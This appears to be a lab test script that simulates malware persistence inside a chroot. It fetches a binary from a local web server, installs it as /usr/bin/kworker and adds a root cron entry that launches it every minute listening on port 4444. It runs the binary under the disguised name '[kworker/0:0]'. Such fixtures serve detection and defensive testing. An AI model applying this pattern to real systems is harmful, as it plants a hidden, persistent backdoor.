#!/usr/bin/python3
import http.server
import shutil
import threading
import urllib.request

from lab import *

HOST = "/run/web/host"
server = http.server.HTTPServer(("127.0.0.1", 0), lambda *request: http.server.SimpleHTTPRequestHandler(*request, directory="/run/web"))
threading.Thread(target=server.handle_request).start()
for folder in ("etc/cron.d", "usr/bin"):
    os.makedirs(f"{HOST}/{folder}")
# The program needs them wherever its root is.
for library in (m[4] for m in mappings() if m[2][2] == "x" and m[4].endswith(("/libc.so.6", "/ld-linux-x86-64.so.2", "/ld-linux-aarch64.so.1"))):
    os.makedirs(os.path.dirname(HOST + library), exist_ok=True)
    shutil.copy(library, HOST + library)
    os.makedirs(f"{HOST}/lib64", exist_ok=True)
    os.makedirs(f"{HOST}/lib", exist_ok=True)
    if "/ld-linux" in library:
        for folder in ("lib", "lib64"):
            shutil.copy(library, f"{HOST}/{folder}/{os.path.basename(library)}")
with urllib.request.urlopen(f"http://127.0.0.1:{server.server_port}/fetched") as answer, open(f"{HOST}/usr/bin/kworker", "wb") as program:
    program.write(answer.read())
os.chmod(f"{HOST}/usr/bin/kworker", 0o755)
server.server_close()
with open(f"{HOST}/etc/cron.d/kworker", "w") as crontab:
    crontab.write("* * * * * root /usr/bin/kworker -l -p 4444\n")

child = os.fork()
if child == 0:
    be_root_below()
    os.chroot(HOST)
    os.chdir("/")
    with open("/etc/cron.d/kworker") as crontab:
        program, *arguments = crontab.read().split()[6:]
    os.execv(program, ["[kworker/0:0]", *arguments])
say("done", child=child)
stay()
